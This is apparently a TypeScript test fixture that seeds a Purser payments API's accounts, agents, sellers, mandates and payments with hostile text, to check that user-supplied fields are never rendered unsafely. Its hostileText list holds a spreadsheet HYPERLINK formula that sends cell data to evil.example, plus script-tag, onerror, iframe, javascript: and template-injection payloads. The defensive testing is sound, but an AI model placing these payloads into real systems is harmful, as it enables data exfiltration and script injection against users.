import { Purser } from '@purser/client'

/** What somebody might write where a name is expected. Each would be seen by the test if it were ever more than text. */
export const hostileText = {
  formula: `=HYPERLINK("http://evil.example/?"&A1,"open")`,
  script: '<script>alert(1)</script>',
  image: `"><img src=x onerror="alert('image')">`,
  frame: `<iframe srcdoc="<script>alert('frame')</script>"></iframe>`,
  link: `javascript:alert('link')`,
  template: '${alert(1)}{{alert(1)}}',
} as const

/** All of it, beginning as a formula does. */
const all = Object.values(hostileText).join(' ')

/** Where hostile text was put: a key of the account whose own name it is, and the records that carry it. */
export interface HostileRecords {
  readonly key: string
  readonly agent: string
  readonly mandate: string
  readonly denied: string
  readonly paid: string
}

/** Puts hostile text wherever the interface takes text of anybody's choosing; the operator's key makes the account. */
export async function seedHostileText(baseUrl: string, operatorKey: string): Promise<HostileRecords> {
  const operator = new Purser({ apiKey: operatorKey, baseUrl })
  const account = { name: all, email: 'hostile@example.com', idp_user_id: all }
  const { api_keys } = await operator.accounts.create(account)
  const key = api_keys.find(({ environment }) => environment === 'sandbox')?.key ?? ''
  const purser = new Purser({ apiKey: key, baseUrl })
  const agent = await purser.agents.create({ name: all, description: all, capabilities: [all] })
  await purser.apiKeys.create({
    role: 'agent',
    environment: 'sandbox',
    agent_id: agent.id,
    label: all.slice(0, 200),
  })
  // A domain that is registered is a host name; what a payment names is anything.
  await purser.sellers.create({
    name: all,
    domain: 'hostile.example',
    price_config: { [hostileText.image]: all },
  })
  const mandate = await purser.mandates.create({
    agent_id: agent.id,
    purpose: all,
    max_spend_total: '50.00',
    max_spend_per_transaction: '5.00',
    allowed_sellers: [all, '*'],
    allowed_categories: [all, '*'],
    expires_at: '2099-01-01T00:00:00Z',
  })
  const payment = {
    agent_id: agent.id,
    mandate_id: mandate.id,
    resource_url: `https://hostile.example/?q=${encodeURIComponent(all)}#${all}`,
  }
  const proposal = { ...payment, merchant_domain: all, category: all }
  const { transaction_id: denied } = await purser.policy.evaluate({ ...proposal, amount: '5.01' })
  await purser.policy.evaluate({ ...proposal, amount: '1.00' })
  await purser.payments.requestProof({ ...payment, amount: '2.00' })
  const answer = await purser.payments.requestProof({ ...payment, amount: '3.00' })
  if (answer.decision !== 'approved') throw new Error(answer.reason_detail ?? 'refused')
  const charge = { proof: answer.proof, merchant_domain: all, expected_amount: '3.00' }
  const paid = await purser.payments.verify(charge)
  if (!paid.verified) throw new Error(paid.reason)
  return { key, agent: agent.id, mandate: mandate.id, denied, paid: paid.transaction_id }
}
